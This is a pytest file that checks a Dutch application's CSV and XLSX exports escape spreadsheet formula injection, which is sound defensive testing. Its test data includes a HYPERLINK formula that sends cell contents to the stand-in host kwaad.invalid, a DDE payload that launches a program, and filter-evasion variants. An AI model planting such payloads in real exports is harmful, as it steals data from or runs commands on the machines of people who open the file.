"""A file for a spreadsheet: what goes in comes out, and nothing in it can run."""

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from leerplicht.formulieren.export import naar_csv, naar_xlsx

KOPPEN = ["Naam", "Op", "Aantal"]
GEWOON = ["Çelik, Zoë", date(2024, 3, 5), -12]
KWAAD = [
    '=HYPERLINK("http://kwaad.invalid/?"&A1,"klik")',
    "+31 6 12345678",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]


def als_rijen(inhoud: bytes) -> list[list[str]]:
    """As a Dutch spreadsheet reads it."""
    assert inhoud.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(inhoud.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_csv_opens_in_a_dutch_spreadsheet():
    rijen = als_rijen(naar_csv(KOPPEN, iter([GEWOON, [None, None, None], ['regel 1\n"regel"; 2', None, 0]])))
    assert rijen == [
        KOPPEN,
        ["Çelik, Zoë", "05-03-2024", "-12"],
        ["", "", ""],
        ['regel 1\n"regel"; 2', "", "0"],
    ]


@pytest.mark.parametrize("tekst", KWAAD)
def test_a_formula_is_text_in_csv(tekst):
    assert als_rijen(naar_csv(["Naam"], iter([[tekst]]))) == [["Naam"], [f"'{tekst}"]]


@pytest.mark.parametrize("tekst", ["a=b", "Jan-Willem", "O'Neill", "a@voorbeeld.test", "", " ", "1.234"])
def test_an_ordinary_text_stays_as_it_is(tekst):
    assert als_rijen(naar_csv(["Naam"], iter([[tekst]]))) == [["Naam"], [tekst]]


def test_xlsx_keeps_kinds_and_runs_nothing():
    tabel = [GEWOON, [None, None, None], *([tekst, None, None] for tekst in [*KWAAD, "http://kwaad.invalid/"])]
    inhoud = naar_xlsx(KOPPEN, iter(tabel), blad="Meldingen")
    blad = load_workbook(io.BytesIO(inhoud))["Meldingen"]
    cellen = [[cel.value for cel in rij] for rij in blad.iter_rows()]
    assert [cellen[0], cellen[1][0], cellen[1][1].date(), cellen[1][2]] == [KOPPEN, *GEWOON]
    # A return is kept as such in the file; openpyxl spells it as it stands there.
    assert [rij[0] for rij in cellen[3:]] == [tekst.replace("\r", "_x000D_") for tekst in KWAAD] + [
        "http://kwaad.invalid/"
    ]
    assert {cel.data_type for rij in blad.iter_rows(max_col=1) for cel in rij} == {"s", "n"}
    assert (blad.freeze_panes, blad.auto_filter.ref) == ("A2", f"A1:C{len(tabel) + 1}")
    with zipfile.ZipFile(io.BytesIO(inhoud)) as pakket:
        delen = {naam: pakket.read(naam).decode() for naam in pakket.namelist()}
    assert [naam for naam, tekst in delen.items() if "<f>" in tekst or "<hyperlink" in tekst] == []
